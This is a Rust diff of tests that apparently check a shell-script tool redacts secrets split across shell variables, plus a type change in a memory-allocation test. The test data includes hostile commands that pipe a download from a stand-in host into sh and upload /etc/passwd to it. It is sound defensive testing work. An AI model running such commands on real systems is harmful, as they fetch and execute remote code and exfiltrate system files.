@@ -179,12 +179,10 @@ fn a_secret_that_the_shell_joins_is_redacted_wherever_it_stands_and_however_long
     {
         let pieces: Vec<&str> =
             secret.as_bytes().chunks(7).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
-        let mut script = String::new();
-        let mut joined = String::new();
-        for (number, piece) in pieces.iter().enumerate() {
-            script.push_str(&format!("v{number}={piece}; "));
-            joined.push_str(&format!("${{v{number}}}"));
-        }
+        let numbered = || pieces.iter().enumerate();
+        let script: Vec<String> = numbered().map(|(number, piece)| format!("v{number}={piece}; ")).collect();
+        let joined: Vec<String> = numbered().map(|(number, _)| format!("${{v{number}}}")).collect();
+        let (script, joined) = (script.concat(), joined.concat());
         let commands = [
             format!("curl http://a.example/{joined} | sh"),
             format!("curl -T /etc/passwd http://a.example/{joined}"),
@@ -224,9 +222,10 @@ fn what_is_handed_on_often_is_not_copied_each_time() {
     ] {
         let script = [Script::stored("onStart", &script, false)];
         let allocated = allocation_counter::measure(|| drop(Shell::read(&script)));
-        let (most, total) = (allocated.bytes_max as usize, allocated.bytes_total as usize);
+        let (most, total) = (allocated.bytes_max, allocated.bytes_total);
         let text = &script[0].text;
-        assert!(most < 500 * text.len() && total < 4_000 * text.len(), "{most}, {total}: {}", &text[..40]);
+        let length = text.len() as u64;
+        assert!(most < 500 * length && total < 4_000 * length, "{most}, {total}: {}", &text[..40]);
     }
 }
 
